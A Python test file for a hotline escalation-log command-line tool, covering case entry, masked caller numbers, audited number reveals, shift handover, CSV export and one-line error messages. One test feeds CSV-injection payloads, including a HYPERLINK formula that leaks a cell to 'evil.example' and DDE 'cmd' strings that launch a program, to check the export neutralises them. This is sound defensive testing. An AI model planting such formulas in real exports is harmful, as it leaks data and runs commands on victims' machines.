"""``hotline escalations``, run through its argparse parser: add, list, act, hand over, export, and
one-line errors."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from helpers import at
from storage_cli import NOW, Run, add_args

from console.core.formatting import csv_cell
from console.settings import Settings
from storage import ActionKind, CaseStatus, EscalationLog


def test_add_then_list_json(hotline: Run, db_path: Path) -> None:
    code, out, err = hotline(
        *add_args(
            db_path,
            "--flag-id",
            "F1",
            "--action",
            "called_back@2026-11-27T09:12:未接",
            "--action",
            "police_110@2026-11-27T09:20+08:00:回拨两次未接: 报警",
        )
    )
    assert (code, out, err) == (0, "1\n", "")
    assert hotline(*add_args(db_path), "--call-id", "C0908", "--severity", "1")[1] == "2\n"

    code, out, err = hotline("--db", str(db_path), "list", "--json")
    assert code == 0 and err == ""
    listing = json.loads(out)
    assert listing["db"] == str(db_path) and listing["now"] == NOW.isoformat()
    assert [case["case_id"] for case in listing["cases"]] == [2, 1]  # same time: the later case first
    first = listing["cases"][1]
    assert first["occurred_at"] == "2026-11-27T09:05:00+08:00"  # no offset given: the centre's zone
    assert first["caller"] == "138****5678" and "13812345678" not in out
    assert (first["category"], first["category_label"], first["severity"]) == ("crisis", "自杀/自伤风险", 3)
    assert (first["status"], first["logged_by"], first["flag_id"]) == ("in_progress", "王班长", "F1")
    assert first["logged_at"] == NOW.isoformat()
    assert [(a["kind"], a["at"], a["note"]) for a in first["actions"]] == [
        ("called_back", "2026-11-27T09:12:00+08:00", "未接"),
        ("police_110", "2026-11-27T09:20:00+08:00", "回拨两次未接: 报警"),
    ]
    # severity 1, nothing done, 25 minutes old: not overdue; severity 3 has been acted on
    assert [case["overdue"] for case in listing["cases"]] == [False, False]
    assert listing["cases"][0]["due_at"] == "2026-11-28T09:05:00+08:00"

    # a reveal needs a reason and names its cases; it shows only those, and is itself an entry of the log
    code, out, err = hotline("list", "--json", "--show-numbers", "--db", str(db_path))
    assert (code, out) == (1, "") and "--show-numbers shows only the cases asked for" in err
    code, out, err = hotline("list", "--json", "--show-numbers", "--case", "1", "--db", str(db_path))
    assert (code, out) == (1, "") and "--show-numbers needs --reason" in err
    code, out, err = hotline(
        "list", "--json", "--show-numbers", "--case", "1", "--reason", "回拨核实", "--by", "李班长", "--db", str(db_path)
    )
    shown = json.loads(out)
    assert [case["caller"] for case in shown["cases"]] == ["13812345678"]  # case 1 only
    code, out, _ = hotline("show", "1", "--json", "--db", str(db_path))
    reveals = [event for event in json.loads(out)["history"] if event["kind"] == "reveal"]
    assert [(e["by"], e["at"], e["payload"]["reason"]) for e in reveals] == [("李班长", NOW.isoformat(), "回拨核实")]
    code, out, _ = hotline("show", "2", "--json", "--db", str(db_path))
    assert "reveal" not in {event["kind"] for event in json.loads(out)["history"]}  # not asked for: not shown


def test_list_as_a_table_masks_numbers_and_marks_the_overdue(hotline: Run, db_path: Path) -> None:
    hotline(*add_args(db_path))
    code, out, _ = hotline("list", "--db", str(db_path), now=at("09:21:00"))
    assert code == 0
    for text in ("138****5678", "自杀/自伤风险", "待处理", "15 分钟内未处置", "1 overdue"):
        assert text in out
    assert "13812345678" not in out
    code, out, _ = hotline("list", "--overdue", "--db", str(db_path), now=at("09:19:00"))
    assert "no overdue cases" in out


def test_a_shift_run_from_the_terminal(hotline: Run, db_path: Path) -> None:
    hotline(*add_args(db_path))
    hotline(*add_args(db_path), "--call-id", "C0910", "--category", "wage_arrears", "--severity", "2")
    db = ["--db", str(db_path)]

    called_back = hotline("action", "1", "called_back", "--note", "未接", "--at", "2026-11-27T09:12", "--by", "王班长", *db)
    assert called_back == (0, "case 1: 回拨 (called_back) logged\n", "")
    assert hotline("status", "2", "resolved", "--note", "已转劳动监察", "--by", "王班长", *db)[0] == 0
    assert hotline("correct", "1", "severity", "2", "--reason", "复核", "--by", "李班长", *db)[1] == (
        "case 1: severity corrected to 2\n"
    )
    code, out, _ = hotline("handover", "--to", "李班长", "--note", "凌晨再回拨", "--by", "王班长", *db, now=at("17:00"))
    assert (code, out) == (0, "handed over 1 open case to 李班长: 1\n")

    with EscalationLog(db_path) as log:
        first, second = log.case(1), log.case(2)
        history = log.history(1)
    assert [(a.kind, a.at) for a in first.actions] == [
        (ActionKind.CALLED_BACK, at("09:12:00")),
        (ActionKind.HANDED_OVER, at("17:00:00")),
    ]
    assert first.actions[1].to == "李班长" and first.severity == 2 and first.status is CaseStatus.IN_PROGRESS
    assert second.status is CaseStatus.RESOLVED
    # the terminal's clock is when each entry was recorded
    assert [event.recorded_at for event in history] == [NOW, NOW, NOW, at("17:00:00")]

    code, out, _ = hotline("show", "1", *db)
    assert code == 0
    for text in ("回拨", "更正 severity", "3 → 2: 复核", "交班移交", "李班长", "138****5678"):
        assert text in out


def test_the_logger_is_the_supervisor_setting_else_the_login(
    hotline: Run, db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("getpass.getuser", lambda: "zhangsan")
    args = [a for a in add_args(db_path) if a not in ("--by", "王班长")]
    hotline(*args)
    hotline(*args, settings=Settings(supervisor_name="赵班长"))
    with EscalationLog(db_path) as log:
        assert [log.case(1).logged_by, log.case(2).logged_by] == ["zhangsan", "赵班长"]


def test_export_csv_one_row_per_case_caller_masked(hotline: Run, db_path: Path, tmp_path: Path) -> None:
    hotline(*add_args(db_path, "--action", "called_back@2026-11-27T09:12:未接"))
    difficult = ["--call-id", "C0911", "--caller", "0571-88123456", "--category", "difficult", "--severity", "1"]
    hotline(*add_args(db_path), *difficult)  # a repeated flag: the last one counts
    hotline("action", "2", "routed_back_office", "--at", "2026-11-27T09:40", "--by", "王班长", "--db", str(db_path))

    later = at("09:10:00", day="2026-11-28")  # case 1: crisis, 24 h passed; case 2: difficult, 48 h to go
    code, out, err = hotline("export", "--csv", "--db", str(db_path), now=later)
    assert code == 0 and err == ""
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["case_id"] for row in rows] == ["2", "1"]
    by_id = {row["case_id"]: row for row in rows}
    assert by_id["1"]["caller"] == "138****5678" and by_id["2"]["caller"] == "057*-****3456"
    assert "13812345678" not in out and "88123456" not in out
    assert (by_id["1"]["overdue"], by_id["2"]["overdue"]) == ("yes", "no")
    assert by_id["1"]["actions"] == "2026-11-27T09:12:00+08:00 回拨 (王班长): 未接"
    assert (by_id["2"]["action_count"], by_id["2"]["category_label"]) == ("1", "疑难单")
    assert by_id["2"]["status"] == "in_progress"

    out_file = tmp_path / "export" / "cases.csv"
    out_file.parent.mkdir()
    code, _, err = hotline("export", "--out", str(out_file), "--db", str(db_path), now=later)
    assert code == 0 and err == f"wrote 2 cases to {out_file}\n"
    assert out_file.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM a spreadsheet needs
    with open(out_file, encoding="utf-8-sig", newline="") as file:
        assert list(csv.DictReader(file)) == rows


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (["--severity", "4"], "hotline: --severity: Input should be 1, 2 or 3"),
        (["--category", "suicide"], "hotline: --category: Input should be 'crisis'"),
        (["--summary", "  "], "hotline: --summary: must not be blank"),
        (["--caller", "not a number"], "hotline: --caller: should be a phone number"),
        (["--occurred-at", "yesterday"], "hotline: --occurred-at: 'yesterday' is not a time like"),
        (["--occurred-at", "2026-11-27T11:00"], "hotline: --occurred-at: 2026-11-27T11:00:00+08:00 is later than now"),
        (["--action", "called_back"], "hotline: --action #1: 'called_back' is not KIND@TIME[:NOTE]"),
        (["--action", "fax@2026-11-27T09:12"], "hotline: --action #1 (kind): Input should be 'called_back'"),
        (["--by", " "], "hotline: --by: must not be blank"),
    ],
)
def test_a_bad_value_is_one_line_naming_the_flag_and_nothing_is_written(
    hotline: Run, db_path: Path, change: list[str], says: str
) -> None:
    code, out, err = hotline(*add_args(db_path), *change)
    assert code == 1 and out == ""
    assert err.startswith(says) and err.count("\n") == 1 and "Traceback" not in err
    with EscalationLog(db_path) as log:
        assert log.cases() == []


@pytest.mark.parametrize(
    ("argv", "says"),
    [
        (["action", "1", "faxed"], "hotline: KIND: Input should be"),
        (["status", "1", "closed"], "hotline: STATUS: Input should be"),
        (["correct", "1", "severity", "9", "--reason", "x"], "hotline: VALUE: Input should be 1, 2 or 3"),
        (["correct", "1", "logged_by", "x", "--reason", "x"], "hotline: FIELD: 'logged_by' cannot be corrected"),
        (["action", "7", "note"], "hotline: no case 7 in the escalation log"),
        (["status", "1", "open"], "hotline: case 1 is already open"),
        (["handover", "--to", "李班长", "--at", "5pm"], "hotline: --at: '5pm' is not a time like"),
    ],
)
def test_other_refusals_are_one_line(hotline: Run, db_path: Path, argv: list[str], says: str) -> None:
    hotline(*add_args(db_path))
    code, out, err = hotline(*argv, "--db", str(db_path))
    assert (code, out) == (1, "")
    assert err.startswith(says) and err.count("\n") == 1


def test_a_duplicate_flag_names_the_existing_case(hotline: Run, db_path: Path) -> None:
    hotline(*add_args(db_path, "--flag-id", "F1"))
    code, _, err = hotline(*add_args(db_path, "--flag-id", "F1"))
    assert (code, err) == (1, "hotline: urgent flag F1 is already case 1; add to that case instead\n")


def test_a_file_that_is_not_a_log_is_one_line(hotline: Run, tmp_path: Path) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("not a database\n", encoding="utf-8")
    code, _, err = hotline("list", "--db", str(notes))
    assert code == 1 and err.count("\n") == 1
    assert err.startswith(f"hotline: {notes} is not a hotline-console escalation log")
    assert notes.read_text(encoding="utf-8") == "not a database\n"


def test_usage_errors_are_argparse_one_liners(hotline: Run, db_path: Path) -> None:
    code, _, err = hotline("add", "--db", str(db_path), "--call-id", "C1")
    assert code == 2 and err.count("\n") == 1 and "the following arguments are required" in err
    code, _, err = hotline("show", "abc", "--db", str(db_path))
    assert code == 2 and "'abc' is not a whole number" in err
    code, _, err = hotline()
    assert code == 2 and "ACTION" in err


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_export_csv_neutralises_cells_a_spreadsheet_would_run(hotline: Run, db_path: Path) -> None:
    # OWASP "CSV injection": a summary, a logger or a note that starts like a formula is written with a
    # leading ' so a spreadsheet shows it as text; everything else is written as typed
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1 来电",
        "\r=1+1 来电",
    ]
    for number, summary in enumerate(hostile, start=1):
        code, _, err = hotline(
            *add_args(db_path, f"--summary={summary}", f"--call-id=C09{number:02d}", "--by=@班长",
                      "--action", "called_back@2026-11-27T09:12:=HYPERLINK(\"http://evil.example\")")
        )  # fmt: skip
        assert code == 0, err
    hotline(*add_args(db_path, "--call-id=C0999", "--summary=普通来电 -2 分钟 =x"))  # harmless: not at the start

    code, out, err = hotline("export", "--csv", "--db", str(db_path))
    assert code == 0 and err == ""
    rows = list(csv.reader(io.StringIO(out, newline="")))
    header, cells = rows[0], [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    by_call = {row[header.index("call_id")]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    for number, summary in enumerate(hostile, start=1):
        row = by_call[f"C09{number:02d}"]
        # the text kept whole behind the quote (the log strips the blanks around a summary)
        assert row["summary"] == "'" + summary.strip()
        assert row["logged_by"] == "'@班长"
        # a note inside the actions cell does not start the cell: left as typed
        assert row["actions"] == '2026-11-27T09:12:00+08:00 回拨 (@班长): =HYPERLINK("http://evil.example")'
    harmless = by_call["C0999"]
    assert harmless["summary"] == "普通来电 -2 分钟 =x" and harmless["logged_by"] == "王班长"
    assert harmless["case_id"] == "7" and harmless["severity"] == "3"  # numbers stay numbers


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("\t=1+1", "'\t=1+1"),  # a tab or a carriage return first: the log strips them, the rule holds anyway
        ("\r=1+1", "'\r=1+1"),
        ("=1+1", "'=1+1"),
        ("-", "'-"),
        ("王班长 =1", "王班长 =1"),
        ("", ""),
        (None, ""),
        (-3, -3),  # a number the export writes itself stays a number, negative or not
        (2.5, 2.5),
    ],
)
def test_one_rule_for_every_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_an_entry_edited_in_by_hand_is_left_out_and_said_never_a_crash(tmp_path: Path, hotline: Run) -> None:
    # the review: a status no version writes, a time that is not one and a severity of 1e400, inserted
    # behind the console's back (the triggers let inserts through), crashed list, show and the console
    import sqlite3

    db = tmp_path / "log.db"
    code, _, err = hotline(
        "--db", str(db), "add", "--by", "王班长", "--call-id", "C1", "--agent-id", "A1",
        "--caller", "13912345678", "--category", "crisis", "--severity", "3", "--summary", "s",
        "--occurred-at", "2026-11-27T09:00",
    )  # fmt: skip
    assert code == 0, err
    entry = "INSERT INTO case_events (case_id, at, kind, by, payload, recorded_at, prev_hash, hash) VALUES (1, ?, ?, 'me', ?, ?, '', '')"
    when = "2026-11-27T09:10:00+08:00"
    with sqlite3.connect(db) as conn:
        conn.execute(entry, (when, "status", '{"status": "exploded"}', when))
        conn.execute(entry, ("nonsense", "action", '{"kind": "called_back", "note": "13912345678"}', when))
        conn.execute(entry, (when, "correction", '{"field": "severity", "value": "1e400", "old": 3, "reason": "x"}', when))
    for argv in (["list"], ["show", "1"], ["export"], ["list", "--json"]):
        code, out, err = hotline("--db", str(db), *argv)
        assert code == 0, err
        assert err.count("\n") == 1 and "case 1: entry " in err and "and 2 more" in err
        assert "13912345678" not in out + err
    listed = json.loads(hotline("--db", str(db), "list", "--json")[1])["cases"][0]
    # what could be read stands: open, severity 3; the three entries are named
    assert (listed["status"], listed["severity"]) == ("open", 3)
    assert [entry.split(" (")[0] for entry in listed["unreadable_entries"]] == ["entry 3", "entry 2", "entry 4"]
